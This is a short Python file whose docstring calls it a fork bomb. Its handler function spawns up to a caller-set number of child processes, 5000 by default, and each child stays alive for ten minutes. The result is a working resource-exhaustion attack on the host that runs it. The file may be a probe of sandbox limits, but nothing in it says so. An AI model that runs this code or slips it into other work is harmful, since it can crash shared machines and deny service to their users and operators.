"""A fork bomb: forks until something stops it; every child stays alive."""

import os
import time


def handle(data):
    forked = 0
    for _ in range(data.get("count", 5000)):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        forked += 1
    return {"forked": forked}
